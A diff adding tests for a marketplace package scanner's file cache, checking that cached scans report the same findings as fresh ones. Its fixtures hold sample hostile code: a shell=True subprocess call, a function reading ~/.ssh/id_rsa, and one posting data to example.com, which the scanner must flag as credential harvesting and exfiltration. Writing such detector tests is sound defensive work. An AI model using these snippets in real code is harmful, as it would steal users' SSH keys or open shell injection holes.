@@ -1,0 +1,72 @@
+"""The server scanner's per-file cache: a file seen before is not analysed again, and
+the report is the same as without the cache."""
+
+from __future__ import annotations
+
+from argent_marketplace.scan import PackageScanner
+from argent_marketplace.scan.scanner import SERVER_CACHE_FILES
+from tests.scan.conftest import ScanFn
+
+CLEAN = "import json\n\ndef load(s):\n    return json.loads(s)\n"
+BAD = "import subprocess\n\ndef run(cmd):\n    subprocess.run(cmd, shell=True)\n"
+PATH = "agent-harness/cli_aos/airtable/tool.py"
+
+
+def _view(report):  # the parts of a report that must not depend on the cache
+    return (report.status, report.findings, report.capabilities)
+
+
+def test_a_cached_scan_reports_what_a_fresh_one_does(scan: ScanFn) -> None:
+    cached = PackageScanner(cache_files=100)
+    first = scan({PATH: BAD}, scanner=cached, permissions=("network", "subprocess"))
+    misses = cached.cache.misses
+    second = scan({PATH: BAD}, scanner=cached, permissions=("network", "subprocess"))
+    fresh = scan({PATH: BAD}, scanner=PackageScanner(), permissions=("network", "subprocess"))
+    assert _view(first) == _view(second) == _view(fresh)
+    assert first.status == "flagged"
+    assert cached.cache.misses == misses  # every file of the second scan came from the cache
+    assert cached.cache.hits >= misses
+
+
+def test_a_changed_file_is_analysed_again(scan: ScanFn) -> None:
+    cached = PackageScanner(cache_files=100)
+    assert scan({PATH: CLEAN}, scanner=cached).status == "published"
+    changed = scan({PATH: BAD}, scanner=cached, permissions=("network", "subprocess"))
+    assert changed.status == "flagged"
+    assert any(f.file == PATH and f.rule == "shell-injection" for f in changed.findings)
+
+
+def test_the_same_bytes_at_another_path_are_analysed_there(scan: ScanFn) -> None:
+    cached = PackageScanner(cache_files=100)
+    scan({PATH: BAD}, scanner=cached, permissions=("network", "subprocess"))
+    other = "agent-harness/cli_aos/airtable/other.py"
+    moved = scan({other: BAD}, scanner=cached, permissions=("network", "subprocess"))
+    assert {f.file for f in moved.findings if f.rule == "shell-injection"} == {other}
+
+
+def test_package_level_rules_still_see_cached_files() -> None:
+    reader = b"import pathlib\n\ndef key():\n    return (pathlib.Path.home() / '.ssh/id_rsa').read_text()\n"
+    sender = (
+        b"import requests\n\ndef send(x):\n    requests.post('https://example.com/u', data=x)\n"
+    )
+    cached = PackageScanner(cache_files=100)
+    alone = cached.report({"a/keys.py": reader}, ("network", "filesystem"))
+    assert {f.severity for f in alone.findings if f.rule == "credential-harvesting"} == {"high"}
+    # the reader comes from the cache now; with a sender beside it, it is exfiltration
+    both = cached.report({"a/keys.py": reader, "a/net.py": sender}, ("network", "filesystem"))
+    assert cached.cache is not None and cached.cache.hits == 1
+    harvest = [f for f in both.findings if f.rule == "credential-harvesting"]
+    assert [(f.file, f.severity) for f in harvest] == [("a/keys.py", "critical")]
+
+
+def test_the_cache_is_bounded() -> None:
+    cached = PackageScanner(cache_files=3)
+    for i in range(10):
+        cached.report({f"m{i}.py": b"x = 1\n"}, ())
+    assert cached.cache is not None and len(cached.cache) == 3
+
+
+def test_only_the_servers_scanner_caches() -> None:
+    assert PackageScanner().cache is None
+    server = PackageScanner.from_environment()
+    assert server.cache is not None and server.cache.size == SERVER_CACHE_FILES
